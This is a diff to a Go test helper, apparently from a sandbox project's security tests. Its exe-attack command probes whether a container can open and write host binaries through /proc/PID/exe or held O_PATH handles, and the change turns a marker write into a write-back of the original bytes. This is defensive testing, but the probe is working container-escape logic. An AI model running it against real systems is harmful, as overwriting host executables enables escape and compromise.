@@ -451,8 +451,12 @@ func cmdNs([]string) error {
 // that binary, both directly through /proc/PID/exe and through an O_PATH
 // handle kept open until the binary is no longer busy. For each binary it
 // managed to write to it prints "WROTE <pid> <target>"; it ends with
-// "done tries=N writable=M". Executables that the container can reach by
-// path itself (its own /bin/busybox, /helper) are left alone.
+// "done tries=N held=H writable=M". Executables that the container can reach
+// by path itself (its own /bin/busybox, /helper) are left alone.
+//
+// The write is a proof, not damage: it writes back the bytes that are already
+// at offset 0, so a vulnerable binary keeps its content (only its mtime
+// changes). A sealed or read-only copy refuses the write.
 func cmdExeAttack(args []string) error {
 	secs, err := strconv.ParseFloat(args[0], 64)
 	if err != nil {
@@ -460,18 +464,24 @@ func cmdExeAttack(args []string) error {
 	}
 	self := os.Getpid()
 	deadline := time.Now().Add(time.Duration(secs * float64(time.Second)))
-	held := map[int]string{} // O_PATH fd -> "pid target"
-	seen := map[string]bool{}
+	held := map[int]string{}        // O_PATH fd -> "pid target"
+	seen := map[string]bool{}       // "pid target" already held
+	seenTarget := map[string]bool{} // targets already reported
 	tries, writable := 0, 0
-	marker := []byte("HUSK-EXE-ATTACK")
 	tryWrite := func(path, what string) {
 		tries++
-		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
 		if err != nil {
 			return
 		}
 		defer unix.Close(fd)
-		if _, err := unix.Pwrite(fd, marker, 0); err != nil {
+		orig := make([]byte, 16)
+		n, err := unix.Pread(fd, orig, 0)
+		if err != nil || n == 0 {
+			fmt.Printf("OPENED-NOT-READ %s: %v\n", what, err)
+			return
+		}
+		if _, err := unix.Pwrite(fd, orig[:n], 0); err != nil {
 			fmt.Printf("OPENED-NOT-WRITTEN %s: %v\n", what, err)
 			return
 		}
@@ -497,7 +507,10 @@ func cmdExeAttack(args []string) error {
 			} else {
 				seen[what] = true
 				held[fd] = what
-				fmt.Printf("SAW %s\n", what)
+				if !seenTarget[target] {
+					seenTarget[target] = true
+					fmt.Printf("SAW %s\n", what)
+				}
 			}
 			if seen[what] {
 				tryWrite(exe, what)
@@ -508,7 +521,7 @@ func cmdExeAttack(args []string) error {
 		}
 		time.Sleep(time.Millisecond)
 	}
-	fmt.Printf("done tries=%d writable=%d\n", tries, writable)
+	fmt.Printf("done tries=%d held=%d writable=%d\n", tries, len(seen), writable)
 	return nil
 }
 
